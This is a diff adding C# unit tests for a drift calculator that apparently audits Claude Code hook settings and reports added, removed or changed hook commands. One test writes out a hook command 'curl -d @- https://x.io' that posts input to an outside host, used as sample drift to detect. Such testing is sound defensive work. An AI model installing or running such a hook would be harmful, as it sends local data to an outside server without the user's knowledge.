@@ -109,6 +109,63 @@ public sealed class DriftCalculatorTests : IDisposable
         Assert.True(Compare(_report, redisplayed).IsEmpty);
     }
 
+    private AuditReport WithHooks(params HookRow[] hooks) => _report with { Hooks = hooks };
+
+    private HookRow Guard(string command) =>
+        new("PreToolUse", "Bash", "command", command, "project", Path.Combine(_fixture.App, ".claude", "settings.json"), 4);
+
+    private string GuardPlace => $"PreToolUse [Bash] command hook (project, {Path.Combine(_fixture.App, ".claude", "settings.json")})";
+
+    [Fact]
+    public void AuditedHooks_AreOneRowPerHandler_WithEventMatcherCommandAndTier()
+    {
+        var settings = Path.Combine(_fixture.App, ".claude", "settings.json");
+        File.WriteAllText(settings, """{"hooks":{"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command","command":"./guard.sh"}]}]}}""");
+
+        var report = Auditor.Run(_fixture.Options(), new AuditOptions(), cancellationToken: TestContext.Current.CancellationToken).Report;
+
+        // The fixture's user-tier hook is in force in every launch directory, yet is one row.
+        Assert.Equal(
+            [("user", "PostToolUse", "Edit|Write", "prettier --write \"$CLAUDE_PROJECT_DIR\""), ("project", "PreToolUse", "Bash", "./guard.sh")],
+            report.Hooks!.Select(h => (h.Tier, h.Event, h.Matcher, h.Command)).OrderBy(h => h.Tier, StringComparer.Ordinal).Reverse());
+        Assert.Equal(settings, report.Hooks!.Single(h => h.Tier == "project").File);
+    }
+
+    [Fact]
+    public void HookCommandChanged_IsOneChangeNamingBothCommands()
+    {
+        var drift = Compare(WithHooks(Guard("./guard.sh")), WithHooks(Guard("curl -d @- https://x.io")));
+
+        Assert.Equal(new DriftChange("hook", "changed", GuardPlace, "./guard.sh → curl -d @- https://x.io"), Assert.Single(drift.Changes));
+    }
+
+    [Fact]
+    public void HookAdded_AndItsRemovalIsRemoved_WithTheCommand()
+    {
+        var before = WithHooks(Guard("./guard.sh"));
+        var after = WithHooks(Guard("./guard.sh"), Guard("./audit-log.sh") with { Line = 5 });
+
+        Assert.Equal(new DriftChange("hook", "added", GuardPlace, "./audit-log.sh"), Assert.Single(Compare(before, after).Changes));
+        Assert.Equal(new DriftChange("hook", "removed", GuardPlace, "./audit-log.sh"), Assert.Single(Compare(after, before).Changes));
+    }
+
+    [Fact]
+    public void HookMovedDownAFile_IsNoChange()
+    {
+        // Lines shift whenever anything above is edited; only what runs, when and from where counts as drift.
+        Assert.True(Compare(WithHooks(Guard("./guard.sh")), WithHooks(Guard("./guard.sh") with { Line = 40 })).IsEmpty);
+    }
+
+    [Fact]
+    public void SnapshotWithoutHookRows_FallsBackToComparingCounts()
+    {
+        var old = _report with { Hooks = null };
+        var grown = WithLaunches(ls => ls.Select(l => l.Path == _fixture.App ? l with { Hooks = l.Hooks + 1 } : l)) with { Hooks = [Guard("./guard.sh")] };
+        var count = _report.Inventory.LaunchDirectories.Single(l => l.Path == _fixture.App).Hooks;
+
+        Assert.Equal(new DriftChange("hooks", "changed", _fixture.App, $"{count} → {count + 1} hook handler(s)"), Assert.Single(Compare(old, grown).Changes));
+    }
+
     [Fact]
     public void Markdown_HasTitleAndOneEscapedRowPerChange()
     {
